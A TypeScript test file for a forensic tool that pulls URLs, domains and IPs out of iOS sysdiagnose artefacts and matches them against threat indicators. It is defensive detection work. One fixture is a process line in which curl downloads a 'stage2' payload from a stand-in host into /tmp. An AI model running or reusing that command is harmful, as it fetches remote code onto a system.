import { describe, expect, it } from 'vitest';

import { extractArtefact } from './artefacts';
import { buildMatcher } from './matcher';
import { psText, shutdownLogText } from './sampleArtefacts';
import type { Indicator } from './types';

const links = (r: { observations: Array<{ kind: string; value: string; line?: number }> }) =>
  r.observations.filter((o) => ['url', 'domain', 'ipv4'].includes(o.kind)).map((o) => [o.kind, o.value, o.line]);

describe('sysdiagnose links', () => {
  it('a ps command line with a link yields the url and its host, with the line as evidence', () => {
    const text = psText(['/usr/bin/curl -s https://www.update-cdn.com/stage2?id=7 -o /tmp/x', '/sbin/launchd']);
    const result = extractArtefact('ps.txt', new TextEncoder().encode(text));
    expect(result.error).toBeUndefined();
    expect(links(result)).toEqual([
      ['url', 'https://www.update-cdn.com/stage2?id=7', 2],
      ['domain', 'www.update-cdn.com', 2],
    ]);
    expect(result.observations.find((o) => o.kind === 'url')!.raw).toContain('/usr/bin/curl -s https://');
    // A domain indicator flags the host by MVT's rule (the host without www.), url:value the link.
    const indicators: Indicator[] = [
      {
        id: 'indicator--d',
        type: 'domain-name:value',
        value: 'update-cdn.com',
        pattern: "[domain-name:value = 'update-cdn.com']",
        family: { id: 'f', name: 'F' },
        ruleSet: { id: 'bundle--x', name: 'X', version: '1' },
      },
    ];
    const matcher = buildMatcher(indicators, []);
    const hits = result.observations.flatMap((o) => matcher.match(o));
    expect(hits.map((h) => h.observation.value)).toEqual(['www.update-cdn.com']);
  });

  it('a crash report and a shutdown.log line with links yield them; a text without any yields none', () => {
    const ips = extractArtefact(
      'crashes/Safari.ips',
      new TextEncoder().encode(
        `{"app_name":"MobileSafari","timestamp":"2023-06-01 08:17:55.00 +0000","bug_type":"309"}\n{"procName":"MobileSafari","procPath":"/Applications/MobileSafari.app/MobileSafari","lastURL":"http://45.9.148.2/x.html"}`,
      ),
    );
    expect(links(ips)).toEqual([
      ['url', 'http://45.9.148.2/x.html', 2],
      ['ipv4', '45.9.148.2', 2],
    ]);
    const plain = extractArtefact('shutdown.log', new TextEncoder().encode(shutdownLogText([])));
    expect(links(plain)).toEqual([]);
  });
});
